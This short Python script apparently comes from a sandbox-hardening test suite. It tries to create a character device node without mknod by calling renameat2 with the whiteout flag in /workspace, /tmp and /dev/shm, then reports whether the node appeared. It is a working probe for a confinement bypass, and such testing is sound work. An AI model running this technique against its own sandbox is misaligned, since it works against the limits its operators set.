"""A device node without mknod: a rename that leaves a whiteout behind, which is a character device."""
import os
import stat

from attack import HIGH, attempt, finish, syscall

RENAMEAT2, AT_FDCWD = 316, -100
NOREPLACE, WHITEOUT = 1, 4


def go():
    for directory in ("/workspace", "/tmp", "/dev/shm"):
        os.chdir(directory)
        for number, flags in enumerate((WHITEOUT, WHITEOUT | NOREPLACE, WHITEOUT | HIGH)):
            old, new = "old%d" % number, "new%d" % number
            open(old, "w").close()
            syscall(RENAMEAT2, AT_FDCWD, old.encode(), AT_FDCWD, new.encode(), flags)
            if os.path.lexists(old) and stat.S_ISCHR(os.lstat(old).st_mode):
                return "%s/%s is a device node" % (directory, old)


finish(attempt(go))
